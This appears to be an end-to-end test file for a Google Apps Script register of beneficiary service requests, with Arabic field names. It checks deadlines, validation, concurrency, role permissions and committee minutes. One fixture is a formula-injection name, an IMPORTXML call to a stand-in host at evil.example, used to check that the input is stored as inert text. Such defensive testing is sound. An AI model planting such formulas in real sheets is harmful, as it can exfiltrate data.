// Service requests end to end on build/Code.js in the sandbox: the path a beneficiary and staff walk.
import { a1, nationalId, publishedForm, riyadhDay, cells, completeAnswers, mails, newRegister, ok, rows, submit, OFFICER, CHAIR, WORKSPACE } from './harness';

const CASES = 'الحالات';

describe('a complete service request', () => {
  const sb = newRegister();
  const submission = submit(sb, completeAnswers());

  it('runs the submit trigger without error', () => {
    expect(submission.executions.map((e) => e.error?.message ?? null)).toEqual([null]);
  });

  it('becomes a complete case with a Hijri-year number, an officer and a due date 15 working days on', () => {
    const [c] = rows(sb, CASES);
    expect(c['رقم الحالة']).toMatch(/^1448-\d{5}$/);
    expect(c['حالة الطلب']).toBe('مكتمل');
    expect(c['مسؤول التواصل']).toBe(OFFICER);
    // Sunday 22 Nov 2026 + 15 working days (Sun–Thu, no holiday in between) = Sunday 13 Dec 2026.
    expect(riyadhDay(c['موعد الرد'] as Date)).toBe('2026-12-13');
    expect(String(c['موعد الرد (هجري وميلادي)'])).toContain('ديسمبر');
    expect(c['الهوية (مخفية)']).toBe('1••••••008');
  });

  it('acknowledges on the agreed channel with the case number and both calendars', () => {
    const [ack] = mails(sb);
    expect(ack.to).toEqual(['fatimah@example.com']);
    const caseNo = String(rows(sb, CASES)[0]['رقم الحالة']);
    expect(ack.subject).toContain(caseNo);
    expect(ack.text).toContain('هـ');
    expect(ack.text).toContain('م');
    expect(ack.html).toContain('dir="rtl"');
  });

  it('keeps the beneficiary once, with the phone stored as text in international form', () => {
    const [b] = rows(sb, 'المستفيدون');
    expect(b['الجوال']).toBe('+966501234567');
    expect(b['رقم الهوية / الإقامة']).toBe('1000000008');
  });

  it('audits the creation without a full national ID', () => {
    const audit = rows(sb, 'سجل التدقيق');
    expect(audit.some((a) => a['الإجراء'] === 'إنشاء حالة')).toBe(true);
    expect(JSON.stringify(audit)).not.toContain('1000000008');
  });
});

describe('an incomplete request, completed later', () => {
  const sb = newRegister();
  const first = submit(sb, completeAnswers({ cond_course_name: '' }));
  const before = rows(sb, CASES)[0];
  sb.advanceTo('2026-11-25T07:00:00Z');
  const second = submit(sb, completeAnswers());

  it('is recorded as incomplete with what is missing, and no deadline yet', () => {
    expect(first.executions[0].error).toBeNull();
    expect(before['حالة الطلب']).toBe('ناقص');
    expect(before['النواقص']).toContain('اسم الدورة');
    expect(before['موعد الرد']).toBe('');
    const [ack] = mails(sb);
    expect(ack.text).toContain('غير مكتمل');
    expect(ack.text).toContain('اسم الدورة');
  });

  it('is completed by the second submission on the same case, and the clock starts then', () => {
    expect(second.executions[0].error).toBeNull();
    const all = rows(sb, CASES);
    expect(all).toHaveLength(1);
    expect(all[0]['رقم الحالة']).toBe(before['رقم الحالة']);
    expect(all[0]['حالة الطلب']).toBe('مكتمل');
    expect(riyadhDay(all[0]['تاريخ اكتمال الطلب'] as Date)).toBe('2026-11-25');
    // Wednesday 25 Nov + 15 working days = Wednesday 16 Dec 2026.
    expect(riyadhDay(all[0]['موعد الرد'] as Date)).toBe('2026-12-16');
  });
});

describe('bad input never crashes and never loses the request', () => {
  const sb = newRegister();
  submit(sb, completeAnswers({ national_id: '1234567890', full_name: 'أحمد' }));
  submit(sb, completeAnswers({ national_id: nationalId(11), mobile: '٠٥٠٩٨٧٦٥٤٣', full_name: 'ريم', email: 'reem@example.com' }));
  submit(sb, completeAnswers({ national_id: nationalId(12), full_name: '=IMPORTXML("http://evil.example/x","//a")', email: 'x@example.com' }));
  submit(sb, completeAnswers({ national_id: nationalId(13), full_name: '+966501112222', email: 'y@example.com' }));
  const all = rows(sb, CASES);

  it('an invalid national ID gives an incomplete case that says why', () => {
    expect(all[0]['حالة الطلب']).toBe('ناقص');
    expect(all[0]['النواقص']).toContain('رقم الهوية');
    expect(mails(sb)[0].text).toContain('رقم الهوية الوطنية غير صحيح');
  });

  it('a phone typed in Arabic-Indic digits is stored in international form', () => {
    const reem = rows(sb, 'المستفيدون').find((b) => b['الاسم الكامل'] === 'ريم')!;
    expect(reem['الجوال']).toBe('+966509876543');
  });

  it('a name holding a formula or a +966 number is stored as inert text', () => {
    const names = cells(sb, CASES, 'اسم المستفيد');
    expect(names.every((c) => !c?.f)).toBe(true);
    expect(String(all[2]['اسم المستفيد'])).toContain('IMPORTXML');
    expect(all[3]['اسم المستفيد']).toBe('+966501112222');
    const beneficiaryNames = cells(sb, 'المستفيدون', 'الاسم الكامل');
    expect(beneficiaryNames.every((c) => !c?.f)).toBe(true);
  });
});

describe('the same submission fired twice, and a blank duplicate', () => {
  const sb = newRegister();
  const form = publishedForm(sb);
  submit(sb, completeAnswers());
  const again = sb.replayLastSubmission(form.formId, false);
  const blank = sb.replayLastSubmission(form.formId, true);

  it('changes nothing: one case, one acknowledgement', () => {
    expect([...again, ...blank].map((e) => e.error)).toEqual([null, null]);
    expect(rows(sb, CASES)).toHaveLength(1);
    expect(mails(sb)).toHaveLength(1);
  });
});

describe('30 submissions at once', () => {
  const sb = newRegister();
  const results = sb.concurrently(
    Array.from({ length: 30 }, (_, i) => () => submit(sb, completeAnswers({ national_id: nationalId(100 + i), full_name: `مستفيد ${i}`, email: `b${i}@example.com` }))),
  );

  it('gives 30 distinct case numbers with no lost or overwritten row', () => {
    expect(results.flatMap((r) => r.executions).filter((e) => e.error)).toEqual([]);
    const all = rows(sb, CASES);
    expect(all).toHaveLength(30);
    expect(new Set(all.map((c) => c['رقم الحالة'])).size).toBe(30);
    expect(new Set(all.map((c) => c['اسم المستفيد'])).size).toBe(30);
    expect(mails(sb)).toHaveLength(30);
  });
});

// In one Workspace domain Google identifies the editor; on gmail.com accounts see identity.test.ts.
describe('staff of one Workspace domain edit the register', () => {
  const sb = newRegister('esrar', '2026-11-22T06:00:00Z', 'workspace');
  const OFFICER = WORKSPACE.OFFICER;
  submit(sb, completeAnswers());
  const illegal = sb.edit(CASES, a1(sb, CASES, 'حالة الطلب', 1), 'صدر القرار', OFFICER);

  it('an illegal status edit is put back, with a note saying why', () => {
    expect(illegal.executions.map((e) => e.error)).toEqual([null]);
    expect(rows(sb, CASES)[0]['حالة الطلب']).toBe('مكتمل');
    const [note] = cells(sb, CASES, 'حالة الطلب').map((c) => c?.note);
    expect(note).toContain('رُفض التعديل');
    expect(rows(sb, 'سجل التدقيق').some((a) => a['الإجراء'] === 'تعديل مرفوض' && a['المستخدم'] === OFFICER)).toBe(true);
  });

  it('a legal one runs the transition', () => {
    sb.edit(CASES, a1(sb, CASES, 'حالة الطلب', 1), 'قيد الدراسة', OFFICER);
    const [c] = rows(sb, CASES);
    expect(c['حالة الطلب']).toBe('قيد الدراسة');
    expect(JSON.parse(String(c['بيانات الحالة (للنظام)'])).status).toBe('under_study');
  });
});

describe('a committee decision', () => {
  const sb = newRegister();
  submit(sb, completeAnswers());
  submit(sb, completeAnswers({ national_id: nationalId(77), full_name: 'منيرة', email: 'muneera@example.com' }));
  const [a, b] = rows(sb, CASES).map((c) => String(c['رقم الحالة']));
  for (const caseNo of [a, b]) ok(sb.execute('startStudy', [caseNo, 'اللجنة المختصة'], { user: OFFICER }));
  ok(sb.execute('recordVerification', [a, 'personal_interview', 'confirmed', 'مقابلة في المقر'], { user: OFFICER }));
  ok(sb.execute('recordDecision', [a, 'accepted', 'استوفت شروط الدورة', 'competent_committee'], { user: CHAIR }));
  ok(sb.execute('recordDecision', [b, 'rejected', ['الدورة مكتملة العدد'], 'competent_committee'], { user: CHAIR }));
  const minutes = ok(sb.execute('prepareCommitteeMinutes', ['competent_committee'], { user: CHAIR })) as { url: string; caseNos: string[] };

  it('produces one minutes document listing both cases, members and the board approval', () => {
    expect(minutes.caseNos.sort()).toEqual([a, b].sort());
    const docs = Object.values((sb.world.services.docs as { documents: Record<string, { title?: string; name?: string }> }).documents);
    const text = JSON.stringify(docs);
    expect(text).toContain(a);
    expect(text).toContain('خالد الحربي');
    expect(text).toContain('رئيس اللجنة');
    expect(text).toContain('الدورة مكتملة العدد');
  });

  it('links the minutes into each case and notifies each beneficiary of the decision', () => {
    const all = rows(sb, CASES);
    expect(all.map((c) => c['حالة الطلب'])).toEqual(['تم إبلاغ المستفيد', 'تم إبلاغ المستفيد']);
    expect(all.every((c) => c['رابط المحضر'] === minutes.url)).toBe(true);
    const decisionMails = mails(sb).filter((m) => m.subject.includes('قرار'));
    expect(decisionMails.map((m) => m.to[0]).sort()).toEqual(['fatimah@example.com', 'muneera@example.com']);
    expect(decisionMails.find((m) => m.to[0] === 'muneera@example.com')!.text).toContain('الدورة مكتملة العدد');
  });

  it('refuses a step the caller\'s role does not allow, whatever sent it', () => {
    const byOfficer = sb.execute('recordDecision', [a, 'rejected', 'سبب'], { user: OFFICER });
    expect(byOfficer.error?.message).toContain('لا يسمح دورك');
    const byStranger = sb.execute('startStudy', [b, 'x'], { user: 'stranger@example.com' });
    expect(byStranger.error).not.toBeNull();
    expect(rows(sb, CASES).map((c) => c['حالة الطلب'])).toEqual(['تم إبلاغ المستفيد', 'تم إبلاغ المستفيد']);
  });

  it('a second run finds nothing new to minute', () => {
    const again = ok(sb.execute('prepareCommitteeMinutes', ['competent_committee'], { user: CHAIR })) as { url: string | null };
    expect(again.url).toBeNull();
  });
});

describe('setup run twice', () => {
  const sb = newRegister();
  const triggersBefore = JSON.stringify(sb.world.services.triggers);
  const formBefore = publishedForm(sb);
  const sheetsBefore = rows(sb, 'الإعدادات').length;
  ok(sb.execute('setup', ['esrar']));

  it('changes nothing and duplicates nothing', () => {
    expect(JSON.stringify(sb.world.services.triggers)).toBe(triggersBefore);
    expect(publishedForm(sb)).toEqual(formBefore);
    expect(rows(sb, 'الإعدادات')).toHaveLength(sheetsBefore);
    expect(rows(sb, 'الإجازات الرسمية').length).toBeGreaterThan(5);
  });
});

describe('setup repairs what went missing', () => {
  const sb = newRegister();
  const triggers = () => (sb.world.services.triggers as { triggers: Array<{ handler: string }> }).triggers;
  const before = triggers().map((tr) => tr.handler).sort();
  // Someone deletes the daily sweep's trigger by hand.
  (sb.world.services.triggers as { triggers: Array<{ handler: string }> }).triggers = triggers().filter((tr) => tr.handler !== 'dailySweep');
  ok(sb.execute('setup', ['esrar']));

  it('installs the missing trigger again, duplicates none, and stays well under 20', () => {
    expect(triggers().map((tr) => tr.handler).sort()).toEqual(before);
    expect(triggers().length).toBeLessThan(15);
    const listed = rows(sb, 'الإعدادات').find((r) => r['المفتاح'] === 'triggers' || String(r['القيمة']).includes('dailySweep'));
    expect(String(listed?.['القيمة'])).toContain('dailySweep');
  });
});

describe('a case that came by phone, registered by staff', () => {
  const sb = newRegister();
  const byPhone = ok(
    sb.execute(
      'registerCaseFromChannel',
      [{ channel: 'phone', full_name: 'سالم', national_id: nationalId(88), mobile: '0534445566', beneficiary_type: 'individual', category: 'productive_families', domain: 'training', service: 'training_course', reply_channel: 'phone', attestation: true, consent: true, cond_course_name: 'الخياطة', cond_birth_date: '1990-01-01' }],
      { user: OFFICER },
    ),
  ) as { caseNo: string; status: string; message: string };
  const fromStranger = sb.execute('registerCaseFromChannel', [{ channel: 'phone', full_name: 'x' }], { user: 'stranger@example.com' });

  it('goes through the same checks, records the channel, and asks the officer to phone the reply', () => {
    expect(byPhone.status).toBe('مكتمل');
    const [c] = rows(sb, CASES);
    expect(c['قناة الورود']).toBe('الاتصال الهاتفي');
    expect(c['قناة الرد المتفق عليها']).toBe('الاتصال الهاتفي');
    const task = rows(sb, 'صندوق الصادر').find((r) => r['رقم الحالة'] === byPhone.caseNo);
    expect(task?.['حالة الإرسال']).toBe('مهمة متابعة للموظف');
    expect(task?.['المستلم']).toBe(OFFICER);
    expect(mails(sb)).toHaveLength(0);
  });

  it('is refused to someone not in the staff tab', () => {
    expect(fromStranger.error).not.toBeNull();
    expect(rows(sb, CASES)).toHaveLength(1);
  });
});

describe('a submission with an answer longer than the register keeps', () => {
  const sb = newRegister();
  const long = `${'تفاصيل الحالة الاجتماعية للأسرة وظروفها. '.repeat(1500)}آخر سطر`;
  const run = submit(sb, completeAnswers({ details: long })).executions;

  it('still becomes a case, with the answer cut and a note saying where the whole text is', () => {
    expect(run.map((e) => e.error?.message ?? null)).toEqual([null]);
    const [c] = rows(sb, CASES);
    expect(c['حالة الطلب']).toBe('مكتمل');
    const details = String(c['تفاصيل الطلب']);
    expect(long.startsWith(details.slice(0, 5000))).toBe(true);
    expect(details).toContain('الإجابة أطول من 5000 حرف: نصها الكامل في ردود النموذج');
    expect(details.length).toBeLessThan(5200);
  });
});
